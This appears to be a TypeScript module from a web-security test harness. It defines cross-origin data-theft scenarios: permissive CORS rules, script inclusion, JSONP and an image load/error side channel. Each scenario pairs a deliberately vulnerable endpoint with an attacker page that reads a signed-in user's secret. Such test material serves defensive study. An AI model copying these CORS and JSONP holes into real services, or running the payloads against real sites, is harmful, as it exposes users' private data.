import type { Attack } from '../attack.js';
import type { Names } from '../names.js';

const READ = `fetch(names.victim + '/api/mine', { credentials: 'include' }).then((answer) => answer.text()).then(loot, () => done('unreadable'))`;

/** An API that tells whoever the rule trusts. */
const trusts = (
  id: string,
  what: string,
  rule: (origin: string, names: Names) => boolean,
  from: keyof Names,
  more: Partial<Attack> = {},
): Attack => ({
  id,
  what,
  goal: 'secret',
  by: ['attacker: unreadable'],
  serve: ({ app, house, names, state, user }) =>
    void app.get(
      '/api/mine',
      house.cors((origin) => rule(origin, names)),
      (req, res) => void res.json({ secret: user(req) === 'alice' && state.secret }),
    ),
  pages: () => ({ '/go': `<script>${READ}</script>` }),
  async act(scene) {
    await scene.signIn();
    await scene.open(`${scene.names[from]}/go`);
  },
  ...more,
});

const ISOLATED = ['resourceIsolation: '];
const loads = (id: string, what: string, page: string, more: Partial<Attack>): Attack => ({
  id,
  what,
  goal: 'secret',
  by: ISOLATED,
  pages: () => ({ '/go': page }),
  async act(scene) {
    await scene.signIn();
    await scene.open(`${scene.names.evil}/go`);
  },
  ...more,
});

export const reads: readonly Attack[] = [
  trusts('cors-reflected', 'CORS for every origin that asks', () => true, 'evil', { short: true }),
  trusts(
    'cors-null',
    'CORS for the origin null, asked from a sandbox',
    (origin) => origin === 'null',
    'evil',
    {
      pages: (names) => ({
        '/go': `<iframe sandbox="allow-scripts" src="${names.evil}/inner"></iframe>`,
        '/inner': `<script>${READ}</script>`,
      }),
    },
  ),
  trusts(
    'cors-suffix',
    "CORS for names that end in the partner's",
    (origin, { partner }) => origin.endsWith(partner.slice('https://'.length)),
    'suffixed',
  ),
  trusts(
    'cors-prefix',
    "CORS for origins that begin with the partner's",
    (origin, { partner }) => origin.startsWith(partner),
    'prefixed',
  ),
  trusts(
    'cors-http',
    "CORS for the partner's name without TLS",
    (origin, { partner }) => origin.replace('http:', 'https:') === partner,
    'wirePartner',
  ),
  trusts(
    'cors-sibling',
    "CORS for every page under the victim's own domain",
    (origin, { host }) => origin.endsWith(`.${host}`),
    'sibling',
    { cookie: 'plain' },
  ),
  loads(
    'script-inclusion',
    "the person's data in a script of the service, loaded by the attacker's page",
    `<script>document.write('<script src="' + names.victim + '/me.js"><\\/script>')</script><script>loot(globalThis.me)</script>`,
    {
      short: true,
      serve: ({ app, state, user }) =>
        void app.get('/me.js', (req, res) =>
          res.type('js').send(`globalThis.me = '${user(req) === 'alice' ? state.secret : ''}'`),
        ),
    },
  ),
  loads(
    'jsonp',
    "the person's data by JSONP",
    `<script>const take = ({ me }) => loot(me); document.write('<script src="' + names.victim + '/me?callback=take"><\\/script>')</script>`,
    {
      serve: ({ app, state, user }) =>
        void app.get('/me', (req, res) => void res.jsonp({ me: user(req) === 'alice' ? state.secret : '' })),
    },
  ),
  loads(
    'load-or-error',
    "whether something is the person's own, by an image that loads or fails",
    `<script>
const ask = (id) => new Promise((resolve) => { const image = new Image(); image.onload = () => resolve(true); image.onerror = () => resolve(false); image.src = names.victim + '/photos/' + id; });
Promise.all([ask(1), ask(2)]).then(([mine, other]) => mine !== other ? loot('owns 1') : done('all the same'));
</script>`,
    {
      goal: 'loot',
      by: ['attacker: all the same'],
      serve: ({ app, user }) =>
        void app.get('/photos/:id', (req, res) => {
          if (user(req) !== 'alice' || req.params.id !== '1') res.status(404).end();
          else res.type('svg').send('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"></svg>');
        }),
    },
  ),
];
